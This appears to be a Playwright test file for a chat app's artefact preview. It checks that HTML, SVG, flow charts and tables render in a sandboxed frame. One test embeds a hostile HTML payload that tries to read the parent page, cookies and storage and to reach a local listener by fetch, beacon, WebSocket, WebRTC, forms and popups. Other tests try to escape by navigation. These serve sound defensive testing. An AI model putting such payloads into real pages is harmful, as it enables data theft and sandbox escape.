// Artefacts: shown in a frame that reaches neither the page nor a network.
import { createSocket } from 'node:dgram'
import { createServer } from 'node:net'
import { answerWith, expect, test, type Studio } from './server'

async function show(studio: Studio, language: string, source: string) {
  await answerWith(studio.page, [{ content: '```' + language + '\n' + source + '\n```' }])
  await studio.send('Show me')
  await studio.settled()
  await studio.button('Preview').click()
  return studio.page.frameLocator('.artefact iframe')
}

test('a web page runs its script in the frame', async ({ studio }) => {
  const frame = await show(
    studio,
    'html',
    '<h1>Hi</h1><button onclick="this.textContent = 1 + 1">sum</button><script>document.title = "set"</script>',
  )
  await frame.getByRole('button').click()
  await expect(frame.getByRole('button')).toHaveText('2')
  await studio.button('Source').click()
  await expect(studio.page.locator('.artefact .source')).toContainText('<h1>Hi</h1>')
  await studio.page.getByRole('complementary', { name: 'Artefact' }).getByRole('button', { name: 'Close' }).click()
  await expect(studio.page.locator('.artefact')).toHaveCount(0)
})

test('a drawing is shown', async ({ studio }) => {
  const frame = await show(studio, 'svg', '<svg viewBox="0 0 10 10"><circle cx="5" cy="5" r="4"/></svg>')
  await expect(frame.locator('circle')).toBeVisible()
})

test('a flow chart is drawn', async ({ studio }) => {
  const source = `graph TD
    A[Start] --> B{Is it "ready"?}
    B -->|yes| C(Go <b>on</b>)
    B -- no --> D[[Wait]]
    D -.-> B
    C --> E((End))`
  const frame = await show(studio, 'mermaid', source)
  for (const text of ['Start', 'Is it "ready"?', 'Go <b>on</b>', 'Wait', 'End', 'yes', 'no']) {
    await expect(frame.locator('svg text', { hasText: text }).first()).toBeVisible()
  }
  await expect(frame.locator('svg path.e')).toHaveCount(5)
  // Ranks follow the arrows: what comes later stands lower.
  const y = async (text: string) => Number(await frame.locator('svg text', { hasText: text }).first().getAttribute('y'))
  expect(await y('Start')).toBeLessThan(await y('ready'))
  expect(await y('ready')).toBeLessThan(await y('Go'))
})

test('a table can be filtered and sorted', async ({ studio }) => {
  const frame = await show(studio, 'csv', 'name,age\nAda,36\n"Bo, the <b>","9"\nCleo,101')
  await expect(frame.locator('tbody tr')).toHaveCount(3)
  await frame.getByRole('button', { name: 'age' }).click()
  await expect(frame.locator('tbody td:last-child')).toHaveText(['9', '36', '101'])
  await frame.getByRole('button', { name: 'age' }).click()
  await expect(frame.locator('tbody td:last-child')).toHaveText(['101', '36', '9'])
  await frame.getByRole('searchbox', { name: 'Filter' }).fill('bo')
  await expect(frame.locator('tbody td:first-child')).toHaveText(['Bo, the <b>'])
})

test('a table in the text opens as an artefact', async ({ studio }) => {
  await answerWith(studio.page, [{ content: '| a | b |\n|---|---|\n| 1 | x |\n| 2 | y |' }])
  await studio.send('Show me')
  await studio.settled()
  await studio.button('Sort and filter').click()
  await expect(studio.page.frameLocator('.artefact iframe').locator('tbody tr')).toHaveCount(2)
})

// Hears what is sent to it by TCP or UDP.
async function listener() {
  const heard: string[] = []
  const tcp = createServer((socket) => {
    socket.on('error', () => undefined)
    socket.on('data', (bytes) => heard.push(`tcp ${bytes}`.split('\r')[0]!))
  })
  await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve))
  const port = (tcp.address() as { port: number }).port
  const udp = createSocket('udp4')
  udp.on('message', () => heard.push('udp'))
  await new Promise<void>((resolve) => udp.bind(port, '127.0.0.1', resolve))
  return { heard, port, close: () => (tcp.close(), udp.close()) }
}

test('a hostile artefact reaches nothing', async ({ studio, page, server }) => {
  const { heard, port, close } = await listener()
  const away = `127.0.0.1:${port}`
  const source = `<!doctype html>
<link rel="stylesheet" href="http://${away}/a.css"><link rel="dns-prefetch" href="//${away}">
<link rel="preconnect" href="http://${away}"><link rel="prefetch" href="http://${away}/p">
<script src="http://${away}/a.js"></script>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["http://${away}/s"]}]}</script>
<img src="http://${away}/i.png"><video src="http://${away}/v"></video><iframe src="http://${away}/f"></iframe>
<object data="http://${away}/o"></object><form id="f" action="http://${away}/form"><input name="x"></form>
<style>@import "http://${away}/i.css"; body { background: url(http://${away}/b.png) }</style>
<output></output>
<script>
(async () => {
  const results = {};
  const attempt = async (name, what) => {
    try { results[name] = String(await what()); } catch (error) { results[name] = 'refused'; }
  };
  await attempt('parent', () => parent.document.title);
  await attempt('storage', () => localStorage.length);
  await attempt('database', () => indexedDB.databases().then((list) => list.length));
  await attempt('cookie', () => document.cookie);
  await attempt('fetch', () => fetch('http://${away}/fetch').then(() => 'reached'));
  await attempt('server', () => fetch('${server.url}/v1/models').then(() => 'reached'));
  await attempt('beacon', () => navigator.sendBeacon('http://${away}/beacon', 'x') && 'queued');
  await attempt('socket', () => new Promise((resolve, reject) => {
    const socket = new WebSocket('ws://${away}/');
    socket.onopen = () => resolve('reached'); socket.onerror = reject;
  }));
  await attempt('events', () => new Promise((resolve, reject) => {
    const events = new EventSource('http://${away}/e'); events.onopen = () => resolve('reached'); events.onerror = reject;
  }));
  await attempt('worker', () => new Promise((resolve, reject) => {
    const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
    worker.onmessage = () => resolve('ran'); worker.onerror = reject;
  }));
  const peer = async (view) => {
    const connection = new view.RTCPeerConnection({ iceServers: [{ urls: 'stun:${away}' }] });
    connection.createDataChannel('x');
    await connection.setLocalDescription(await connection.createOffer());
    return 'reached';
  };
  await attempt('peer', () => peer(window));
  await attempt('nested peer', () => {
    const inner = document.body.appendChild(document.createElement('iframe'));
    return peer(inner.contentWindow);
  });
  await attempt('srcdoc peer', () => {
    const inner = document.createElement('iframe');
    inner.srcdoc = '<p>x';
    document.body.append(inner);
    return peer(inner.contentWindow);
  });
  await attempt('popup', () => (window.open('http://${away}/popup') ? 'opened' : Promise.reject()));
  await attempt('top', () => { top.location = 'http://${away}/top'; return 'tried'; });
  document.querySelector('output').textContent = JSON.stringify(results);
  document.getElementById('f').submit();
})();
</script>`
  await page.context().grantPermissions([])
  const popups: string[] = []
  page.on('popup', (popup) => popups.push(popup.url()))
  const frame = await show(studio, 'html', source)
  await expect(frame.locator('output')).toContainText('popup')
  const results = JSON.parse((await frame.locator('output').textContent())!)
  const refused = Object.entries(results).filter(([, value]) => value === 'refused').map(([name]) => name)
  for (const name of ['parent', 'storage', 'database', 'cookie', 'fetch', 'server', 'socket', 'events', 'worker', 'popup']) {
    expect(refused, JSON.stringify(results)).toContain(name)
  }
  for (const name of ['peer', 'nested peer', 'srcdoc peer']) expect(refused, JSON.stringify(results)).toContain(name)
  expect(popups).toEqual([])
  expect(page.url().startsWith(server.url)).toBe(true)
  // The listener listens: a request of our own arrives, and it is the only one. A connection without a word may have
  // been opened before: Chromium does that for a nested frame before it asks the policy that refuses it.
  page.request.get(`http://${away}/ours`).catch(() => undefined)
  await expect.poll(() => heard.length).toBeGreaterThan(0)
  expect(heard).toEqual(['tcp GET /ours HTTP/1.1'])
  close()
})

for (const [way, leave] of Object.entries({
  script: (url: string) => `<script>location = '${url}'</script>`,
  link: (url: string) => `<a id="link" href="${url}">x</a><script>link.click()</script>`,
  refresh: (url: string) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  data: () => `<script>location = 'data:text/html,<p>free</p>'</script>`,
})) {
  test(`an artefact cannot leave its frame by navigating it: ${way}`, async ({ studio, page, server }) => {
    const { heard, port, close } = await listener()
    await show(studio, 'html', leave(`http://127.0.0.1:${port}/secret`))
    // The browser puts its own error page where it refused the navigation.
    await expect.poll(() => page.frames().some((frame) => frame.url().startsWith('chrome-error:'))).toBe(true)
    expect(heard).toEqual([])
    expect(page.url().startsWith(server.url)).toBe(true)
    close()
  })
}
